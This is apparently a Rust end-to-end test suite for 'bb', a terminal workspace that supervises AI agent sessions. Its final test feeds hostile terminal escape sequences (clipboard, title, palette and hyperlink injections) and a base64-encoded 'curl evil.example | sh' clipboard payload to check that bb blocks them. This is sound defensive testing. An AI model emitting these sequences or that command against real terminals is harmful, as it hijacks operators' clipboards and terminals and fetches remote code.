//! The workspace end to end: the real `bb` binary in a PTY, sessions running
//! real programs through the local test backend, read back from the screen.

mod support;

use support::{home, Bb, PATIENCE};

/// Each agent's session: a shell, or a program that prints its size on
/// SIGWINCH, chosen by the agent's name.
const SESSIONS: &str = r#"case "$BB_AGENT" in
  caller) exec sh -c 'read line; while [ ! -e go ]; do sleep 0.05; done; printf "done: %s\n\a" "$line"; exec cat' ;;
  winch) exec sh -c 'trap "echo size \$(stty size)" WINCH; echo size $(stty size); while :; do sleep 0.05 & wait; done' ;;
  answer) exec bash --norc --noprofile -c 'trap "echo size \$(stty size)" WINCH; echo size $(stty size); while :; do read -t 0.2 l && { sleep 0.5; echo "got $l"; }; done' ;;
  *) exec bash --norc --noprofile ;;
esac"#;

fn start(bb: &mut Bb, agent: &str) {
    bb.prefix("n");
    bb.wait_text("New agent");
    bb.keys(agent);
    bb.keys("\r");
    bb.wait_text(&format!("Launch {agent}? y/N"));
    bb.keys("y");
    bb.wait_text(&format!("{agent} is running"));
}

/// A home with one `shell` agent, and bb open on it (24x80) with `env`
/// besides BB_HOME: the temp dir (cwd), the home, and bb.
fn shell_workspace(env: &[(&str, &str)]) -> (tempfile::TempDir, std::path::PathBuf, Bb) {
    let dir = tempfile::tempdir().unwrap();
    let h = dir.path().join("home");
    home(&h, &["shell"]);
    let mut vars = vec![("BB_HOME", h.to_str().unwrap())];
    vars.extend_from_slice(env);
    let bb = Bb::spawn(&["--local-backend", SESSIONS], &vars, dir.path(), 24, 80);
    bb.wait_text("No agent is running here yet.");
    (dir, h, bb)
}

#[test]
fn two_sessions_typing_switching_resizing_scrolling_and_leaving() {
    let dir = tempfile::tempdir().unwrap();
    let h = dir.path().join("home");
    home(&h, &["shell", "winch"]);
    let hs = h.to_str().unwrap();
    let mut bb = Bb::spawn(
        &["--local-backend", SESSIONS],
        &[
            ("BB_HOME", hs),
            ("PS1", "$ "),
            ("HOME", dir.path().to_str().unwrap()),
        ],
        dir.path(),
        24,
        80,
    );
    bb.wait_text("No agent is running here yet.");

    start(&mut bb, "shell");
    bb.keys("echo one-$((1+1))\r");
    bb.wait_text("one-2");

    // The second session starts at the pane's size: 80x24 leaves 56x21.
    start(&mut bb, "winch");
    bb.wait_text("size 21 56");

    // A bigger outer terminal: the program is told its new pane size.
    bb.resize(40, 120);
    bb.wait_text("size 37 90");

    // Back to the shell: its screen is as it was, and it saw the resize too.
    bb.send(b"\x1b1");
    bb.wait_text("one-2");
    bb.keys("stty size\r");
    bb.wait_text("37 90");

    // A full-screen program on the alternate screen, then back.
    bb.keys("seq 1 500 > nums.txt; less nums.txt\r");
    // Wait for less's own prompt line, not just the cleared screen: a key
    // sent while less is still setting up its terminal can be lost.
    bb.wait_for("less on the alternate screen", |s| {
        !s.contains("one-2") && s.lines().any(|l| l.trim_end().ends_with("│nums.txt"))
    });
    bb.wait_reading("less");
    bb.keys("q");
    if bb.seen_within(PATIENCE, |s| s.contains("one-2")).is_none() {
        // Which side lost it: less still there means the key never
        // reached it; less gone means bb did not draw the shell again.
        let less = match bb.descendants("less").is_empty() {
            true => "less quit, and bb did not draw the shell again",
            false => "less never got the q",
        };
        panic!("{less}; the screen shows:\n{}", bb.screen());
    }

    // Scrollback: history beyond the screen, reached from scroll mode.
    bb.keys("seq 1 300\r");
    bb.wait_text("300");
    bb.prefix("[");
    bb.keys("g");
    bb.wait_for("the top of the history", |s| {
        s.contains("[history") && s.contains("echo one-")
    });
    bb.keys("q");
    bb.wait_for("the live screen", |s| !s.contains("[history"));

    // Zoom: the pane takes the width; the program hears about it.
    bb.send(b"\x1b2");
    bb.wait_for("winch's pane", |s| {
        s.contains(" winch · ") && s.contains("· dev · local")
    });
    bb.prefix("z");
    bb.wait_text("size 38 120");
    bb.prefix("z");
    bb.wait_text("size 37 90");

    // Leave: the terminal is given back as it was.
    bb.prefix("d");
    assert_eq!(bb.wait_exit(), 0);
    let parser = bb.parser.lock().unwrap();
    let screen = parser.screen();
    assert!(!screen.alternate_screen(), "still on the alternate screen");
    assert!(!screen.hide_cursor(), "cursor left hidden");
    assert_eq!(
        screen.mouse_protocol_mode(),
        vt100::MouseProtocolMode::None,
        "mouse capture left on"
    );
    assert!(!screen.bracketed_paste(), "bracketed paste left on");
}

#[test]
fn sigterm_restores_the_terminal() {
    let (_dir, _h, mut bb) = shell_workspace(&[]);
    let pid = bb.child.process_id().unwrap();
    std::process::Command::new("kill")
        .args(["-TERM", &pid.to_string()])
        .status()
        .unwrap();
    bb.wait_exit();
    let parser = bb.parser.lock().unwrap();
    assert!(!parser.screen().alternate_screen());
    assert_eq!(
        parser.screen().mouse_protocol_mode(),
        vt100::MouseProtocolMode::None
    );
}

#[test]
fn closing_the_outer_terminal_ends_bb_cleanly_and_keeps_bottles() {
    let (_dir, h, mut bb) = shell_workspace(&[]);
    start(&mut bb, "shell");
    // The help dialog hides the program's cursor: bb must show it again
    // on leaving, on a terminal that is gone.
    bb.prefix("?");
    bb.wait_text("Press C-b, then:");
    bb.hang_up();
    let code = bb.wait_exit();
    let crash = h.join("logs/crash.log");
    assert!(
        !crash.exists(),
        "no panic: {}",
        std::fs::read_to_string(&crash).unwrap_or_default()
    );
    assert_eq!(code, 0, "a clean exit, not a panic (101) or an abort (134)");
}

/// While $EDITOR has the terminal, bb reads nothing: a line typed into the
/// editor reaches the editor whole, and nothing of it reaches the agent.
#[test]
fn keys_typed_in_the_editor_stay_in_the_editor() {
    let scratch = tempfile::tempdir().unwrap();
    let typed = scratch.path().join("typed");
    let editor = scratch.path().join("editor.sh");
    std::fs::write(
        &editor,
        format!(
            // Key by key, as vi reads: raw, no line discipline to wait for.
            "#!/bin/sh\nstty raw -echo < /dev/tty\nprintf 'EDITOR-READY\\r\\n' > /dev/tty\nline=$(dd bs=1 count=24 < /dev/tty 2>/dev/null)\nstty sane < /dev/tty\nprintf '%s' \"$line\" > {}\n",
            typed.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&editor, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let (_dir, h, mut bb) = shell_workspace(&[("EDITOR", editor.to_str().unwrap())]);
    start(&mut bb, "shell");
    let screen = bb.screen();
    let slug = screen
        .split_whitespace()
        .find(|w| w.starts_with("shell-"))
        .expect("the pane title names the bottle")
        .to_string();
    // A proposal from the agent, modified in $EDITOR.
    let queue = h.join("state").join(&slug).join("proposals");
    std::fs::create_dir_all(&queue).unwrap();
    let p = bb::supervise::Proposal {
        id: "p1".into(),
        slug: slug.clone(),
        agent: "shell".into(),
        created_at: "2026-12-01T00:00:00Z".into(),
        reason: "needs the index".into(),
        request: bb::supervise::Request::Egress(bb::supervise::EgressRequest {
            host: "pypi.example".into(),
            path_allowlist: vec![],
        }),
    };
    std::fs::write(queue.join("p1.json"), serde_json::to_string(&p).unwrap()).unwrap();
    bb.wait_text("!1");
    bb.prefix("p");
    bb.wait_text("Proposal from shell");
    bb.keys("m");
    bb.wait_text("EDITOR-READY");
    for c in "echo LEAKED-TO-THE-AGENT".chars() {
        bb.keys(&c.to_string());
    }
    bb.wait_for("the editor to finish", |_| typed.exists());
    // The request came back unchanged from the editor: approved as is.
    bb.wait_text("Proposals (0)");
    assert_eq!(
        std::fs::read_to_string(&typed).unwrap(),
        "echo LEAKED-TO-THE-AGENT",
        "the editor got every key"
    );
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(
        !bb.screen().contains("LEAKED"),
        "nothing reached the agent:\n{}",
        bb.screen()
    );
}

#[test]
fn exited_sessions_keep_their_screen_and_restart_on_enter() {
    let dir = tempfile::tempdir().unwrap();
    let h = dir.path().join("home");
    home(&h, &["shell"]);
    let mut bb = Bb::spawn(
        &[
            "--local-backend",
            "echo resume=$BB_RESUME; exec bash --norc --noprofile",
        ],
        &[("BB_HOME", h.to_str().unwrap()), ("PS1", "$ ")],
        dir.path(),
        24,
        80,
    );
    bb.wait_text("No agent is running here yet.");
    start(&mut bb, "shell");
    bb.wait_text("resume=0");
    bb.keys("echo last-words; exit 7\r");
    bb.wait_text("the agent exited (code 7)");
    assert!(bb.screen().contains("last-words"), "the last screen stays");
    bb.keys("\r");
    bb.wait_text("resume=1");
    // x on a running session goes to the program; stopping asks first.
    bb.prefix("x");
    bb.wait_text("Stop shell");
    bb.keys("y");
    bb.wait_text("stopped shell-");
    bb.wait_text("No agent is running here yet.");
}

/// Sizing up a big workspace for the preflight happens beside the
/// workspace, not in it: while it runs, a streaming pane keeps drawing.
#[test]
fn the_preflight_of_a_big_workspace_never_freezes_the_panes() {
    let (dir, _h, mut bb) = shell_workspace(&[("PS1", "$ ")]);
    // bb's cwd is the workspace the preflight measures.
    for d in 0..200 {
        let sub = dir.path().join(format!("src{d}"));
        std::fs::create_dir(&sub).unwrap();
        for f in 0..1000 {
            std::fs::write(sub.join(format!("f{f}")), b"").unwrap();
        }
    }
    start(&mut bb, "shell");
    bb.keys("i=0; while :; do i=$((i+1)); echo \"tick $i\"; sleep 0.01; done\r");
    bb.wait_text("tick 5");
    let tick = |screen: &str| {
        screen
            .split("tick ")
            .skip(1)
            .filter_map(|rest| rest.split_whitespace().next()?.parse::<u64>().ok())
            .max()
    };
    bb.prefix("n");
    bb.wait_text("New agent");
    bb.keys("shell\r");
    let seen = std::sync::Mutex::new(std::collections::BTreeSet::new());
    bb.wait_for("the preflight", |s| {
        if s.contains("preparing the preflight") {
            seen.lock().unwrap().extend(tick(s));
        }
        s.contains("Launch shell? y/N")
    });
    let seen = seen.into_inner().unwrap();
    assert!(
        seen.len() >= 2,
        "the pane kept drawing while the workspace was measured: ticks seen {seen:?}"
    );
    bb.keys("n");
    bb.wait_text("launch cancelled");
}

#[test]
fn an_agent_that_calls_while_you_look_elsewhere_rings_notifies_and_c_b_w_goes_there() {
    let dir = tempfile::tempdir().unwrap();
    let h = dir.path().join("home");
    home(&h, &["caller", "shell"]);
    let mut bb = Bb::spawn(
        &["--local-backend", SESSIONS],
        &[
            ("BB_HOME", h.to_str().unwrap()),
            ("PS1", "$ "),
            ("HOME", dir.path().to_str().unwrap()),
        ],
        dir.path(),
        24,
        100,
    );
    bb.wait_text("No agent is running here yet.");
    start(&mut bb, "caller");
    bb.keys("build it");
    start(&mut bb, "shell");
    // Back to the caller for its Enter, then away; it rings once `go` is
    // there (sessions start in $HOME).
    bb.send(b"\x1b1");
    bb.keys("\r");
    bb.send(b"\x1b2");
    bb.wait_for("the shell focused", |s| s.contains(" shell · "));
    std::fs::write(dir.path().join("go"), "").unwrap();
    bb.wait_output(
        "a desktop notification",
        b"\x1b]777;notify;bb: caller;is waiting for you\x1b\\",
    );
    bb.wait_output("the bell", b"\x07\x1b]777;notify;bb: caller");
    bb.wait_for("the caller's row marked", |s| {
        s.contains("caller *") && s.contains("waiting for you")
    });
    bb.prefix("w");
    bb.wait_for("the caller focused", |s| {
        s.contains(" caller · waiting for you · dev") && s.contains("done: build it")
    });
    bb.prefix("d");
    assert_eq!(bb.wait_exit(), 0);
}

/// A program redrawing for a resize (zoom, the sidebar) has not answered
/// anything: its pane stays idle, with no alert. A real answer to typed
/// input does mark it waiting, in the same session.
#[test]
fn a_redraw_for_a_resize_raises_no_alert() {
    let dir = tempfile::tempdir().unwrap();
    let h = dir.path().join("home");
    home(&h, &["answer"]);
    let mut bb = Bb::spawn(
        &["--local-backend", SESSIONS],
        &[("BB_HOME", h.to_str().unwrap())],
        dir.path(),
        24,
        80,
    );
    bb.wait_text("No agent is running here yet.");
    start(&mut bb, "answer");
    bb.wait_text("size 21 56");
    // An answer after the operator's input is a turn: waiting for you.
    bb.keys("hello\r");
    bb.wait_text("got hello");
    bb.wait_text("answer · waiting for you");
    // Typing is the operator's move; only its echo follows.
    bb.keys("more");
    bb.wait_text("answer · idle");

    let back = |n: usize| move |s: &str| s.matches("size 21 56").count() == n;
    bb.prefix("z");
    bb.wait_text("size 22 80");
    bb.prefix("z");
    bb.wait_for("the pane back from zoom", back(2));
    bb.prefix("s");
    bb.wait_text("size 21 80");
    bb.prefix("s");
    bb.wait_for("the sidebar back", back(3));
    // Past the quiet a turn needs, and then some: still idle.
    std::thread::sleep(bb::session::activity::QUIET + std::time::Duration::from_secs(1));
    let s = bb.screen();
    assert!(
        s.contains("answer · idle") && !s.contains("waiting for you"),
        "{s}"
    );
    assert!(
        !bb.raw().windows(8).any(|w| w == b"\x1b]777;no"),
        "a resize notified the operator"
    );
    bb.prefix("d");
    assert_eq!(bb.wait_exit(), 0);
}

/// Nothing a program prints acts on the operator's terminal: not its
/// clipboard (OSC 52, also smuggled through tmux's DCS passthrough or as a
/// C1 control), its title, colours, fonts, hyperlinks, notifications,
/// DCS/APC/PM/SOS strings. A clipboard write waits for the operator, who
/// sees it whole first.
#[test]
fn a_program_cannot_act_on_the_operators_terminal() {
    let (dir, _h, mut bb) = shell_workspace(&[("PS1", "$ ")]);
    start(&mut bb, "shell");
    let hostile = concat!(
        r"\033]0;PWNED-TITLE\a\033]2;PWNED-TITLE2\a",
        r"\033Ptmux;\033\033]52;c;UFdORUQ=\a\033\\",
        r"\033_PWNED-APC\033\\\033^PWNED-PM\033\\\033XPWNED-SOS\033\\",
        r"\302\23552;c;UFdORUQ=\302\234",
        r"\033]1337;SetBadgeFormat=UFdORUQ=\a\033]4;1;rgb:ff/00/00\a",
        r"\033]10;rgb:00/ff/00\a\033]50;PWNED-FONT\a\033]104\a",
        r"\033]8;;http://evil.example/PWNED\aLINK\033]8;;\a",
        r"\033]9;PWNED-NOTE\a\033]777;notify;PWNED;body\a",
        r"\033P\$qm\033\\\033[21t",
        // The last request is the one kept for the operator.
        r"\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a",
    );
    // From a script, so the payloads are not echoed as typed text.
    std::fs::write(
        dir.path().join("hostile.sh"),
        format!("printf '{hostile}done-%s\\n' hostile\n"),
    )
    .unwrap();
    bb.keys(&format!("sh {}\r", dir.path().join("hostile.sh").display()));
    bb.wait_text("done-hostile");
    bb.wait_text("shell asks to put");
    let raw = bb.raw();
    let has = |needle: &[u8]| raw.windows(needle.len()).any(|w| w == needle);
    for (what, needle) in [
        ("a clipboard write", &b"]52;"[..]),
        ("a title", b"]0;"),
        ("a title", b"]2;"),
        ("a DCS string", b"\x1bP"),
        ("tmux passthrough", b"tmux;"),
        ("an APC string", b"\x1b_"),
        ("a PM string", b"\x1b^"),
        ("an SOS string", b"\x1bX"),
        ("a C1 OSC", "\u{9d}".as_bytes()),
        ("an iTerm2 command", b"]1337"),
        ("a palette change", b"]4;"),
        ("a colour change", b"]10;rgb"),
        ("a font change", b"]50;"),
        ("a palette reset", b"]104"),
        ("a hyperlink", b"]8;"),
        ("anything of the payloads", b"PWNED"),
    ] {
        assert!(!has(needle), "{what} reached the outer terminal");
    }
    // The clipboard request is shown whole, and dropped with n.
    bb.prefix("c");
    bb.wait_text("curl evil.example | sh");
    bb.keys("n");
    bb.wait_text("did not set your clipboard");
    assert!(!bb.raw().windows(4).any(|w| w == b"]52;"));
}
